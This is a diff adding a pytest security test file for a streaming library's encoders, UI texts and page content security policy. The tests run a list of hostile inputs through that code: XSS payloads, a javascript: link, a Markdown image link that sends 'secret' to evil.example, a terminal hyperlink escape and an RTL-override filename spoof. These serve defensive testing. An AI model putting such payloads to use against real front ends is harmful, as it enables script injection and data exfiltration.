@@ -1,0 +1,93 @@
+"""S15: events carry data, and no markup of ours: no encoder writes HTML, and what is meant for a reader is escaped.
+
+What a front end makes of a model's text is its own; the page of `streamtools serve` is held by `tests/browser`.
+"""
+
+from __future__ import annotations
+
+import html
+import json
+import re
+from typing import Any
+
+import pytest
+
+from streamtools import UiTexts, outputs
+from streamtools.calls import ToolCall
+from streamtools.errors import Code
+from streamtools.events import CallStart, Error, Executed, Executing
+from streamtools.web.page import make_page
+from tests.runs_told import RUNS
+from tests.security.test_s07_sse_injection import ENCODERS, attack
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "![a](https://evil.example/?q=secret)",
+    "[a](javascript:alert(1))",
+    "`*_~|#>-",
+    "</details><iframe>",
+    "\u202egnp.exe",
+    "a\r\n\r\n# Heading\n```\n",
+    "\x1b]8;;https://evil.example\x07link",
+    "&lt;b&gt;",
+]
+_tag = re.compile(r"<[a-zA-Z/!]")
+
+
+@pytest.mark.parametrize("make", [*ENCODERS.values(), outputs.text], ids=[*ENCODERS, "text"])
+def test_no_encoder_writes_html(make: Any) -> None:
+    """No content type is HTML, and no run, however long, has a tag in it that nobody has put there."""
+    encoder = make()
+    assert encoder.content_type.partition(";")[0] in ("text/event-stream", "text/plain", "application/json")
+    for events in RUNS.values():
+        encoder = make()
+        body = (b"".join(map(encoder.encode, events)) + encoder.close()).decode()
+        assert not _tag.search(body)
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
+@pytest.mark.parametrize("make", [each for name, each in ENCODERS.items()], ids=list(ENCODERS))
+def test_what_is_written_is_what_was_said(make: Any, text: str) -> None:
+    """Nothing is escaped twice or dropped: a front end that escapes what it shows gets what there is."""
+    for events in RUNS.values():
+        encoder = make()
+        body = b"".join(encoder.encode(attack(event, text)) for event in events).decode()
+        data = [line.removeprefix("data: ") for line in body.splitlines() if line.startswith("data: {")]
+        strings: list[str] = []
+
+        def collect(value: Any, strings: list[str] = strings) -> None:
+            for each in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
+                collect(each)
+                strings += [each] if isinstance(each, str) else []
+
+        for each in data:
+            collect(json.loads(each))
+        assert html.escape(text) == text or not [each for each in strings if html.escape(text) in each]
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
+def test_words_for_the_reader_are_escaped(text: str) -> None:
+    """A sentence of `UiTexts` holds names and messages as one line of text: neither Markdown nor HTML, nor a link."""
+    call = ToolCall(id="c", name=text, arguments={"a": text}, dialect="native")
+    for event in (
+        CallStart("c", text),
+        Executing(call),
+        Executed(call, text, text, 0.1),
+        Error(Code.UNKNOWN_TOOL, text, call=call, call_id="c"),
+        Error(Code.TOOL_FAILED, text, call=call, call_id="c"),
+    ):
+        sentence = UiTexts().render(event) or ""
+        assert not _tag.search(sentence)
+        assert not re.search(r"(?<!\\)\[[^\]]*(?<!\\)\]\(", sentence)
+        assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", sentence)
+        assert len(sentence.strip().splitlines()) < 2
+
+
+def test_the_page_allows_nothing_from_elsewhere() -> None:
+    """Its policy: scripts by their digests, connections to itself, and nothing of others."""
+    policy = dict(each.partition(" ")[::2] for each in make_page().policy.split("; "))
+
+    assert "'none'" == policy["default-src"] == policy["base-uri"] == policy["form-action"] == policy["frame-ancestors"]
+    assert "unsafe" not in make_page().policy
+    assert not re.search(r"https?:|\*", make_page().policy)
